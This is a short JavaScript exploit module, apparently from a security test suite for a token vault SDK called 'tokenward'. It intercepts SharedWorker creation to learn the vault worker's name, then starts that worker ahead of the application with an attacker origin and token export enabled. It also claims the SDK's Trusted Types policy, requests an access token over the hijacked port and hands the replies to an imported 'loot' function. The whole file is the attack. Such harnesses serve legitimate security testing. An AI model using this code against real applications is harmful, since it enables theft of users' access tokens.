// On its first page this script lets no vault start and keeps the name that it would have had; on the next
// ones it is at the vault of that name before the application.
import { loot } from "./attacker.js";

const kept = sessionStorage.getItem("name");
const Native = SharedWorker;
/** What the early port was told. */
const told = [];
let port;

if (!kept) {
  window.SharedWorker = new Proxy(Native, {
    construct(_, [url, { name }]) {
      sessionStorage.setItem("name", name);
      sessionStorage.setItem("url", String(url));
      throw new Error("not yet");
    },
  });
} else {
  const { attacker, options } = window.tw.settings;
  const wider = { ...options, resources: [{ origin: attacker }], allowTokenExport: true };
  // Whoever is first may make the one policy of that name; the SDK then uses what it finds.
  const policy = window.trustedTypes?.createPolicy("tokenward", { createScriptURL: (url) => url });
  window[Symbol.for("tokenward.policy")] = policy;
  const url = sessionStorage.getItem("url");
  port = new Native(policy?.createScriptURL(url) ?? url, {
    type: "module",
    name: kept,
    extendedLifetime: true,
  }).port;
  port.onmessage = ({ data }) => told.push(data);
  port.postMessage({
    type: "hello",
    wire: 1,
    config: JSON.stringify(wider),
    page: location.origin + location.pathname,
    lock: "tokenward/page/early",
  });
}

/** Asks over the early port, and says what it was told. */
export async function ask(attack, url) {
  port.postMessage({ type: "fetch", id: 1, url, method: "GET", headers: [], options: [] });
  port.postMessage({ type: "exportAccessToken", id: 2 });
  await new Promise((resolve) => setTimeout(resolve, 500));
  loot(attack, told);
  const counts = {};
  for (const { type } of told) counts[type] = (counts[type] ?? 0) + 1;
  return counts;
}
